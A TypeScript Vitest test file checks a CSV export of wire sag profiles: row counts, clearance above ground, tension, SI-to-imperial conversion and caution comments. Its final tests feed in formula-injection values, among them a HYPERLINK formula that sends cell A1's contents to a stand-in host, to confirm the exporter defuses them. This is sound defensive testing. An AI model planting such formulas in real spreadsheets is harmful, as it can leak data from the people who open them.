/**
 * CSV of the wire profiles. References: the unit definitions of the 1959 international yard and
 * pound (1 ft = 0.3048 m, 1 lbf = 4.4482216152605 N, exact); the clearance is the height minus
 * the ground line read off the example's own ground points; tension along a wire is never less
 * than its horizontal component (T = H sqrt(1 + z'^2), statics of a cable).
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { CAUTIONS, type Project, solveProject } from '../src/core/index.ts';
import { csvText, profilesCsv } from '../src/deliverables/csv.ts';

const project = JSON.parse(
  readFileSync(new URL('../examples/workshop-yard-inclined.json', import.meta.url), 'utf8'),
) as Project;
const results = solveProject(project);

function rows(csv: string) {
  const lines = csv.trimEnd().split('\r\n');
  const data = lines.filter((line) => !line.startsWith('#'));
  return { comments: lines.filter((l) => l.startsWith('#')), header: data[0], body: data.slice(1) };
}

describe('profiles CSV', () => {
  it('has one row per sampled point of every case, with units in the header', () => {
    const { header, body } = rows(profilesCsv(project, results, 'si'));
    expect(header).toBe('case,x (m),height z (m),clearance above ground (m),tension (N),case id');
    const expected = results.cases.reduce((n, c) => n + (c.profile?.x.length ?? 0), 0);
    expect(expected).toBeGreaterThan(results.cases.length * 10);
    expect(body).toHaveLength(expected);
    for (const c of results.cases)
      expect(body.some((r) => r.startsWith(`${csvText(c.name)},`))).toBe(true);
  });

  it('clearance is height minus the ground line, and tension is at least H', () => {
    const { body } = rows(profilesCsv(project, results, 'si'));
    const hot = results.cases.find((c) => c.name === 'Hot summer');
    const hotRows = body
      .filter((r) => r.startsWith('Hot summer,'))
      .map((r) => r.split(',').slice(1).map(Number));
    // Ground from the file: (0,0) (12,0.2) (28,-0.4); at x = 12 m the ground is 0.2 m.
    for (const [x, z, clearance, tension] of hotRows) {
      const ground = x <= 12 ? (0.2 * x) / 12 : 0.2 + (-0.6 * (x - 12)) / 16;
      expect(clearance).toBeCloseTo(z - ground, 3);
      expect(tension).toBeGreaterThanOrEqual((hot?.horizontalTension ?? Infinity) - 0.05);
    }
  });

  it('converts to feet and pounds-force exactly', () => {
    const si = rows(profilesCsv(project, results, 'si'))
      .body[5].split(',')
      .map(Number);
    const us = rows(profilesCsv(project, results, 'imperial'));
    expect(us.header).toBe(
      'case,x (ft),height z (ft),clearance above ground (ft),tension (lbf),case id',
    );
    const row = us.body[5].split(',').map(Number);
    expect(row[2]).toBeCloseTo(si[2] / 0.3048, 2);
    expect(row[4]).toBeCloseTo(si[4] / 4.4482216152605, 0);
  });

  it('carries every caution as a comment line', () => {
    const { comments } = rows(profilesCsv(project, results, 'si'));
    for (const caution of CAUTIONS) expect(comments.join('\n')).toContain(caution.text);
  });

  it('quotes commas and defuses formulas in case names', () => {
    expect(csvText('Cold, iced, windy')).toBe('"Cold, iced, windy"');
    expect(csvText('=HYPERLINK("x")')).toBe('"\'=HYPERLINK(""x"")"');
    expect(csvText('Hot summer')).toBe('"Hot summer"');
    expect(csvText('+SUM(A1)')).toBe('"\'+SUM(A1)"');
    expect(csvText('-2+3')).toBe('"\'-2+3"');
    expect(csvText('@cmd')).toBe('"\'@cmd"');
    expect(csvText('\t=1')).toBe('"\'\t=1"');
    expect(csvText('\r=1')).toBe('"\'\r=1"');
    expect(csvText('\uff1d1+1')).toBe('"\'\uff1d1+1"');
  });
});

/** RFC 4180 cells of one line (quoted cells may hold commas and doubled quotes). */
function cells(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let cell = '';
      i++;
      while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
        cell += line[i];
        i += line[i] === '"' ? 2 : 1;
      }
      out.push(cell);
      i += 2;
    } else {
      const end = line.indexOf(',', i);
      out.push(line.slice(i, end < 0 ? line.length : end));
      i = end < 0 ? line.length + 1 : end + 1;
    }
  }
  return out;
}

describe('profiles CSV with hostile text', () => {
  it('keeps a hostile title in one quoted, defused cell of the first line', () => {
    const title = '=HYPERLINK("http://x.test/?"&A1,"click"),=1+1';
    const csv = profilesCsv({ ...project, title }, results, 'si');
    const first = csv.split('\r\n')[0];
    expect(cells(first)).toEqual(['# Sagwright wire profiles', `'${title}`]);
  });

  it('quotes and defuses every case name in every row', () => {
    const named = structuredClone(results);
    named.cases.forEach((c, i) => {
      c.name = `@SUM(1,${i})`;
    });
    const { body } = rows(profilesCsv(project, named, 'si'));
    for (const row of body) {
      const [name, ...rest] = cells(row);
      const numbers = rest.slice(0, -1); // the last column is the case id
      expect(name).toMatch(/^'@SUM\(1,\d\)$/);
      expect(rest.at(-1)).toMatch(/^(installation|cases\[\d\])$/);
      expect(numbers.every((n) => n === '' || Number.isFinite(Number(n)))).toBe(true);
    }
  });
});
